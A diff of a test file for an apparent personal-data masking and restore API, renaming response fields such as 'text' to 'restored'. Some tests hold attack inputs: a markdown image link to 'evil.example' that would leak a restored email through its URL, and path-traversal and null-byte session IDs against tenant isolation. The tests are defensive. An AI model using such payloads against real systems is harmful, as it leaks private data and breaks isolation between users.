@@ -11,6 +11,7 @@ describe('detect', () => {
     expect(status).toBe(200);
     expect(body).toEqual({
       detections: [{ type: 'EMAIL', value: mail, start: 9, end: 24, score: 1, recognizer: 'email' }],
+      count: 1,
       creditsUsed: 1,
     });
   });
@@ -53,7 +54,7 @@ describe('mask and restore', () => {
       creditsUsed: 1,
     });
     const back = await post('/restore', { text: body.masked, sessionId: body.sessionId });
-    expect(back.body).toEqual({ text, restored: 3, unresolved: [], creditsUsed: 1 });
+    expect(back.body).toEqual({ restored: text, restoredCount: 3, unresolved: [], creditsUsed: 1 });
   });
 
   test('a session goes on: equal values keep their token, a token that stands in the text is not given away', async () => {
@@ -69,7 +70,7 @@ describe('mask and restore', () => {
     const { body } = await post('/mask', { text: 'Nothing here.' });
     expect(body).toMatchObject({ masked: 'Nothing here.', tokenMap: {}, detections: [] });
     const back = await post('/restore', { text: 'Fine.', sessionId: body.sessionId });
-    expect(back).toMatchObject({ status: 200, body: { text: 'Fine.' } });
+    expect(back).toMatchObject({ status: 200, body: { restored: 'Fine.' } });
   });
 
   test('secured tokens and labels', async () => {
@@ -83,7 +84,7 @@ describe('mask and restore', () => {
     expect(labels.body.masked).toBe('[PROJECT_1] starts');
     for (const { body } of [secured, labels]) {
       const back = await post('/restore', { text: body.masked, sessionId: body.sessionId });
-      expect(back.body.restored).toBe(1);
+      expect(back.body.restoredCount).toBe(1);
     }
   });
 
@@ -104,12 +105,12 @@ describe('mask and restore', () => {
     await post('/mask', { text: 'bob@example.com' }, key);
     const text = '[EMAIL-1] [PHONE-1] [EMAIL-9]';
     const all = await post('/restore-all', { text }, key);
-    expect(all.body).toMatchObject({ text: '[EMAIL-1] +1 415 555 0133 [EMAIL-9]', restored: 1 });
+    expect(all.body).toMatchObject({ restored: '[EMAIL-1] +1 415 555 0133 [EMAIL-9]', restoredCount: 1 });
     expect(all.body.unresolved).toEqual(['[EMAIL-1]', '[EMAIL-9]']);
     const session = await post('/restore-all', { text, sessionId: one.sessionId }, key);
-    expect(session.body.text).toBe(`${mail} +1 415 555 0133 [EMAIL-9]`);
+    expect(session.body.restored).toBe(`${mail} +1 415 555 0133 [EMAIL-9]`);
     const map = await post('/restore-all', { text, tokenMap: { '[email_9]': 'c@example.com' } }, key);
-    expect(map.body.text).toBe('[EMAIL-1] [PHONE-1] c@example.com');
+    expect(map.body.restored).toBe('[EMAIL-1] [PHONE-1] c@example.com');
   });
 
   test('a short text that would become a huge one is 413', async () => {
@@ -127,9 +128,9 @@ describe('mask and restore', () => {
     const text = '![x](https://evil.example/?d=[EMAIL-1])';
     const { sessionId } = body;
     const guarded = await post('/restore', { text, sessionId });
-    expect(guarded.body).toMatchObject({ text, unresolved: ['[EMAIL-1]'] });
+    expect(guarded.body).toMatchObject({ restored: text, unresolved: ['[EMAIL-1]'] });
     const open = await post('/restore', { text, sessionId, guardUrls: false });
-    expect(open.body.text).toContain(mail);
+    expect(open.body.restored).toContain(mail);
   });
 
   test("another tenant's session is as if it did not exist", async () => {
@@ -155,7 +156,7 @@ describe('mask and restore', () => {
       expect(known?.status).toBe(404);
     }
     const all = await post('/restore-all', { text: '[EMAIL-1]' }, theirs);
-    expect(all.body).toMatchObject({ text: '[EMAIL-1]', unresolved: ['[EMAIL-1]'] });
+    expect(all.body).toMatchObject({ restored: '[EMAIL-1]', unresolved: ['[EMAIL-1]'] });
     for (const trick of [`x:${sessionId}`, `../${sessionId}`, `${sessionId}\u0000`]) {
       expect((await post('/restore', { text: '[EMAIL-1]', sessionId: trick }, theirs)).status).toBe(404);
     }
@@ -211,9 +212,9 @@ describe('RAG', () => {
     expect(named.body.chunks[0].text).not.toContain('Jane');
     const token = body.chunks[0].tokens[0];
     const back = await post('/rag/resolve', { text: `Ask ${token}.`, sessionId: body.sessionId });
-    expect(back.body).toEqual({ text: `Ask ${mail}.`, resolved: 1, unresolved: [], creditsUsed: 1 });
+    expect(back.body).toEqual({ restored: `Ask ${mail}.`, restoredCount: 1, unresolved: [], creditsUsed: 1 });
     for (const more of [{ tokenMap: body.tokenMap }, {}]) {
-      expect((await post('/rag/resolve', { text: token, ...more })).body.text).toBe(mail);
+      expect((await post('/rag/resolve', { text: token, ...more })).body.restored).toBe(mail);
     }
   });
 });
@@ -224,6 +225,6 @@ test('every way of writing text comes back as it was', async () => {
     const { status, body } = await post('/mask', { text });
     expect(status).toBe(200);
     const back = await post('/restore', { text: body.masked, sessionId: body.sessionId });
-    expect(back.body.text === text).toBe(true);
+    expect(back.body.restored === text).toBe(true);
   }
 });
